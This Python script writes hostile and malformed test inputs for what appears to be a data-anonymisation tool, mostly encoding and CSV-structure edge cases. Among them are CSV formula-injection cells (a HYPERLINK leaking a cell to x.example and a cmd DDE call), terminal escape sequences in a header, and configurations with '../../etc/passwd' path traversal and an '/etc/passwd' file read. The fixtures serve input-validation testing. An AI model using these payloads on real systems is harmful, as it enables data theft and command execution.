#!/usr/bin/env python3
# Writes the hostile CSV, hierarchy and configuration inputs of this folder (the projects are
# made by make_projects.sh). Run from this folder; the files are committed, this records how
# each was made.
import json

def w(name, data):
    with open(name, 'wb') as f:
        f.write(data if isinstance(data, bytes) else data.encode())

# --- CSV: encodings
w('recode-merge.csv', b'name,x\n\xff,1\n\xfe,2\n\xfd,3\n\xfc,4\nok,5\n')
w('utf32le-bom.csv', '\ufeffa,b\n1,2\n'.encode('utf-32-le'))
w('utf32be-bom.csv', '\ufeffa,b\n1,2\n'.encode('utf-32-be'))
w('utf16le-bom.csv', '\ufeffname,city\n1,Zürich\n2,Łódź\n'.encode('utf-16-le'))
w('utf16be-nobom.csv', 'name,city\n1,Zürich\n2,Łódź\n'.encode('utf-16-be'))
w('nul-early.csv', b'a,b\n1,\x002\n')
w('nul-late.csv', b'a,b\n' + b''.join(b'%d,%d\n' % (i, i % 7) for i in range(20000)) + b'5,\x00\n')
w('invalid-utf8.csv', b'name,x\nJ\xc3ansen,1\nok,2\n')
w('overlong-utf8.csv', b'name,x\n\xc0\xaf,1\nok,2\n')
w('bom-only.csv', b'\xef\xbb\xbf')
w('windows1252.csv', b'stad,bedrag\nD\xe9n Haag,\x80 12\nM\xfcnster,3\n')
# --- CSV: structure
w('empty.csv', b'')
w('header-only.csv', b'a,b,c\n')
w('truncated-quote.csv', b'a,b\n1,"an open quote\n2,3\n')
w('ragged.csv', b'a,b,c\n1,2,3\n4,5\n6,7,8\n')
w('duplicate-header.csv', b'id,age,id\n1,30,2\n')
w('empty-header-name.csv', b'id,,age\n1,2,3\n')
w('cr-only.csv', b'a,b\r1,2\r3,4\r')
w('gigantic-field.csv', b'a,b\n1,' + b'x' * (1100 * 1024) + b'\n')
w('wide-100k.csv', ','.join('c%d' % i for i in range(100000)).encode() + b'\n' +
  ','.join(str(i % 5) for i in range(100000)).encode() + b'\n')
w('workbook.xlsx', b'PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00')
w('binary.csv', bytes([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]) + bytes(range(1, 256)) * 4)
w('terminal-escape-header.csv', b'id,\x1b]0;owned\x07name\x1b[2J\n1,2\n')
w('formula-cells.csv', b'name,amount\n=HYPERLINK("http://x.example/?"&A1),1\n+cmd|\'/c calc\'!A0,2\n@SUM(1+1),3\n-2+3,4\n')
w('quote-inside-field.csv', b'a,b\nab"c,1\n"x"y,2\n')
# --- hierarchies (ARX layout) for tiny.csv's column sex (values M, F)
w('hier-not-nesting.csv', 'M;x;p;*\nF;x;q;*\n')
w('hier-duplicate-value.csv', 'M;x;*\nF;y;*\nM;y;*\n')
w('hier-ragged.csv', 'M;x;*\nF;*\n')
w('hier-two-tops.csv', 'M;x;a\nF;y;b\n')
w('hier-gap.csv', 'M;x;*\n')
w('hier-empty.csv', '')
w('hier-cycle.csv', 'M;F;*\nF;M;*\n')
# --- configuration files for tiny.csv (age, zip, sex, weight)
def config(attributes, publication=None, fmt='dijkgraaf-configuration'):
    doc = {'format': fmt, 'version': 1,
           'configuration': {'attributes': attributes,
                             'privacy': {'k': 2, 'risk_threshold': 0.5, 'suppression_limit': 0}},
           'publication': publication or {'tables': []}}
    return json.dumps(doc, indent=1)
def attr(name, role='quasi-identifier', level=0, kind='auto'):
    return {'name': name, 'role': role, 'level': level, 'hierarchy': {'kind': kind}}
plain = [attr('age'), attr('zip'), attr('sex'), attr('weight', 'insensitive')]
w('config-not-json.json', '{"format": "dijkgraaf-configuration", ')
w('config-wrong-format.json', config(plain, fmt='arx-project'))
w('config-level-99.json', config([attr('age', level=99), attr('zip'), attr('sex'), attr('weight', 'insensitive')]))
w('config-unknown-column.json', config(plain + [attr('email', 'direct-identifier')]))
def table(protection, name='t', dims=('sex',)):
    return {'tables': [{'name': name, 'dimensions': [{'column': d} for d in dims],
                        'margins': False, 'measures': [], 'protection': protection}]}
rules = {'method': 'table-rules', 'threshold': 5, 'threshold_range': 0, 'rounding_base': 0,
         'sum_range_percent': 10}
w('config-threshold-negative.json', config(plain, table(dict(rules, threshold=-1))))
w('config-threshold-huge.json', config(plain, table(dict(rules, threshold=1e400))).replace('Infinity', '1e400'))
w('config-table-path-name.json', config(plain, table(rules, name='../../etc/passwd')))
w('config-domain-outside.json', config(plain, {'budget': {'rho': 0.5}, 'tables': [
    {'name': 't', 'dimensions': [{'column': 'sex', 'domain': {'file': '/etc/passwd'}}],
     'margins': False, 'measures': [],
     'protection': {'method': 'differential-privacy', 'mechanism': 'discrete-gaussian', 'rho': 0.1, 'max_cells': 1}}]}))
